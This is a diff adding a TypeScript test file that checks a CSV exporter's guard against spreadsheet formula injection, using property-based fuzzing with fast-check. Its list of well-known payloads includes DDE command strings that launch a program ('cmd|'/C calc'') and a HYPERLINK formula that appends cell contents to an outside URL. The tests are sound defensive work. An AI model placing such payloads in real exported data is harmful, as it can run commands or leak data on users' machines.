@@ -1,0 +1,76 @@
+import { Buffer } from 'node:buffer'
+import { mkdtemp, rm } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import fc from 'fast-check'
+import { afterEach, beforeEach, expect, test } from 'vitest'
+import { defaultCsvOptions, type CsvOptions } from '../../../shared/model/export.ts'
+import { CellReader } from '../columns/cell-reader.ts'
+import { csvWriter } from './csv-writer.ts'
+import { openInSpreadsheet } from './testing/spreadsheet.ts'
+
+let folder: string
+beforeEach(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'clavis-spreadsheet-'))
+})
+afterEach(() => rm(folder, { recursive: true }))
+
+/** What spreadsheets have been made to run, with what the delimiters and quotes around it can become. */
+const wellKnown = [
+  '=1+1',
+  '=HYPERLINK("https://example.com/?"&A1,"Open")',
+  "=cmd|'/C calc'!A0",
+  '+1+1',
+  '-1+1',
+  '-2+3+cmd|"/C calc"!A0',
+  '@SUM(1,2)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  'x,=1+1',
+  'x;=1+1',
+  'x\t=1+1',
+  'x\r\n=1+1',
+  '","=1+1',
+  '"=1+1"',
+  '"\r\n=1+1',
+  "'=1+1",
+  ' =1+1',
+]
+
+function csvOf(texts: readonly string[], options: CsvOptions): string {
+  let csv = ''
+  const writer = csvWriter(
+    { write: (part) => (csv += typeof part === 'string' ? part : Buffer.from(part).toString()) },
+    { paths: ['text', 'list', 'object'], names: ['text', 'list', 'object'], furtherMembers: false },
+    options,
+  )
+  const cells = new CellReader(['text', 'list', 'object'])
+  writer.begin()
+  for (const text of texts) {
+    const record = Buffer.from(JSON.stringify({ list: [text, -1, text], object: { [text]: text }, text }))
+    writer.record(record, cells.spans(record))
+  }
+  writer.end()
+  return csv
+}
+
+test.each(['comma', 'semicolon', 'tab'] as const)(
+  'a spreadsheet finds no formula in a saved list, whatever its texts: %s',
+  async (delimiter) => {
+    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', '')
+    const rest = fc.string({ unit: fc.constantFrom(...Array.from('=+-@1A(),;"\'\t\r\n|!&')), maxLength: 8 })
+    const drawn = fc.sample(fc.tuple(start, start, rest), 3000).map((parts) => parts.join(''))
+    const texts = [...wellKnown, ...drawn]
+    const options: CsvOptions = { ...defaultCsvOptions, delimiter }
+    const { formulas, others } = await openInSpreadsheet(csvOf(texts, options), folder)
+    expect(formulas).toEqual([])
+    expect(others.length).toBeGreaterThan(texts.length)
+  },
+)
+
+test.each(['comma', 'semicolon', 'tab'] as const)('without the guard it does find some: %s', async (delimiter) => {
+  const options: CsvOptions = { ...defaultCsvOptions, delimiter, guardFormulas: false }
+  const { formulas } = await openInSpreadsheet(csvOf(wellKnown, options), folder)
+  expect(formulas.join(' ')).toContain('hyperlink(')
+})
